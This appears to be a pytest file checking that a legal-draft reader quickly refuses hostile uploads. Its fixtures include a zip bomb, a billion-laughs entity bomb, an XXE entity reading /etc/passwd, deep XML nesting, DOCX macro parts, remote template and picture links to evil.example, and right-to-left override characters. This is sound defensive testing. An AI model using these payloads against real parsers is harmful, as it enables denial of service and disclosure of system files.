"""Is each hostile or mistaken file refused, quickly, in words that say what to do, with the process alive?"""

import io
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import docx
import pypdf
import pytest

from legal_compare.errors import StatuteError
from legal_compare.readers.draft import read_draft

SECONDS = 5
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CSAM = "1. A provider shall report child abuse material.\n\n2. It shall keep records."


def packed(extra: dict[str, bytes] | None = None, replaced: dict[str, bytes] | None = None) -> bytes:
    """A DOCX with parts added or replaced."""
    plain = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("1. A provider shall report.")
    document.save(plain)
    to = io.BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, (replaced or {}).get(name) or old.read(name))
        for name, content in (extra or {}).items():
            new.writestr(name, content)
    return to.getvalue()


def relation(kind: str, target: str) -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="{space}">{link}</Relationships>'.encode()


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    to = io.BytesIO()
    writer.write(to)
    return to.getvalue()


def scanned_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    for _ in range(3):
        writer.add_blank_page(200, 200)
    to = io.BytesIO()
    writer.write(to)
    return to.getvalue()


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b '
    b'"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><akomaNtoso><bill>&b;</bill></akomaNtoso>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><akomaNtoso><bill>&x;</bill></akomaNtoso>'
DEEP = b"<akomaNtoso>" + b"<part>" * 5000 + b"</part>" * 5000 + b"</akomaNtoso>"

HOSTILE = {
    "nothing": (b"", "a.txt", "empty"),
    "zip bomb": (packed({"word/media/a.bin": b"\0" * 200_000_000}), "a.docx", "zip bomb"),
    "zip bomb in the text": (packed(replaced={"word/document.xml": b"<a>" + b" " * 90_000_000 + b"</a>"}), "a.docx", "too large unpacked"),
    "entities in XML": (LAUGHS, "a.xml", "entities"),
    "external entity": (XXE, "a.xml", "entities"),
    "entities in a DOCX": (packed(replaced={"word/document.xml": LAUGHS}), "a.docx", "entities"),
    "endless nesting": (DEEP, "a.xml", "nests more than"),
    "macros": (packed({"word/vbaProject.bin": b"x"}), "a.docx", "macros"),
    "embedded object": (packed({"word/embeddings/oleObject1.bin": b"x"}), "a.docx", "embedded objects"),
    "remote template": (
        packed({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/a.dotm")}), "a.docx", "outside itself",
    ),
    "remote picture": (packed({"word/_rels/footer9.xml.rels": relation("image", "http://evil.example/a.png")}), "a.docx", "outside itself"),
    "damaged DOCX": (packed()[:-400], "a.docx", "damaged"),
    "archive that is no DOCX": (b"PK\x03\x04" + b"x" * 100, "a.docx", "damaged"),
    "encrypted or old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.docx", "encrypted"),
    "encrypted PDF": (encrypted_pdf(), "a.pdf", "encrypted"),
    "broken PDF": (b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 1 0 R>> endobj trailer <</Root 1 0 R>>", "a.pdf", "damaged PDF"),
    "scanned PDF": (scanned_pdf(), "a.pdf", "scanned"),
    "PDF named DOCX": (scanned_pdf(), "a.docx", "named .docx but holds PDF"),
    "words named PDF": (CSAM.encode(), "a.pdf", "named .pdf but is none"),
    "unknown suffix": (CSAM.encode(), "a.exe", "are not read"),
    "rich text": (b"{\\rtf1 hello}", "a.docx", "rich text"),
    "picture": (b"\x89PNG\r\n\x1a\n" + b"x" * 100, "a.pdf", "picture"),
    "null bytes": (CSAM.encode() + b"\0", "a.txt", "null bytes"),
    "no UTF-8": ("1. Straße für Kinder".encode("latin-1"), "a.txt", "not UTF-8"),
    "right-to-left override": (CSAM.replace("report", "re\u202eport").encode(), "a.txt", "direction of writing"),
    "isolate in a DOCX": (packed(replaced={"word/document.xml": f"<w:document {W}><w:body><w:p><w:r><w:t>1. "
        f"a\u2067b</w:t></w:r></w:p></w:body></w:document>".encode()}), "a.docx", "direction of writing"),
    "100 MB": (b"word " * 20_000_000, "a.txt", "at most 40 MB"),
    "500,000 paragraphs": (b"(a) x who\n\n" * 500_000, "a.txt", "at most"),
    "paragraphs inside one another": (
        ("§ 1. Duty\n(4) x—\n(c) y—\n" + ("(1) a\n(A) b—\n" + "w " * 150 + "\n") * 1500 + "§ 2. End\nEnd.").encode(), "a.txt", "inside one",
    ),
    "XML of another kind": (b"<?xml version='1.0'?><svg><text>1. Hello</text></svg>", "a.xml", "another kind"),
    "only signs": (b"... --- ...", "a.txt", "no words"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_it_is_refused_within_five_seconds(case: str) -> None:
    data, name, words = HOSTILE[case]
    began = time.perf_counter()
    with pytest.raises(StatuteError, match=words) as refusal:
        read_draft(data, name)
    assert time.perf_counter() - began < SECONDS
    assert refusal.value.hint, "a refusal says what to do"


def test_a_paste_of_100_megabytes_is_refused() -> None:
    began = time.perf_counter()
    with pytest.raises(StatuteError, match="million characters"):
        read_draft("word " * 20_000_000)
    assert time.perf_counter() - began < SECONDS


def test_invisible_signs_inside_words_do_not_hide_them() -> None:
    draft = read_draft(CSAM.replace("report", "re\u200bp\u2060ort"))
    assert "shall report child" in draft.instrument.sections[0].text
    assert any("2 invisible signs" in note for note in draft.notes)


def test_a_link_in_a_docx_is_neither_refused_nor_followed() -> None:
    draft = read_draft(packed({"word/_rels/header9.xml.rels": relation("hyperlink", "http://law.example/")}), "a.docx")
    assert draft.instrument.sections


def test_a_pdf_that_never_ends_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    from legal_compare.readers import pdf

    monkeypatch.setattr(pdf, "PATIENCE", 0.01)
    with pytest.raises(StatuteError, match="cannot be read within"):
        read_draft(scanned_pdf(), "a.pdf")


def test_all_hostile_files_together_stay_below_one_gigabyte(tmp_path: Path) -> None:
    """Measured in a process of its own, the process that reads PDFs included."""
    code = (
        "import resource, sys; sys.path.insert(0, sys.argv[1])\n"
        "from test_limits import HOSTILE, read_draft, StatuteError\n"
        "for data, name, _ in HOSTILE.values():\n"
        "    try: read_draft(data, name)\n"
        "    except StatuteError: pass\n"
        "print(max(resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)))"
    )
    done = subprocess.run([sys.executable, "-c", code, str(Path(__file__).parent)], capture_output=True, text=True, check=True)
    unit = 1 if sys.platform == "darwin" else 1024
    assert int(done.stdout) * unit < 1_000_000_000
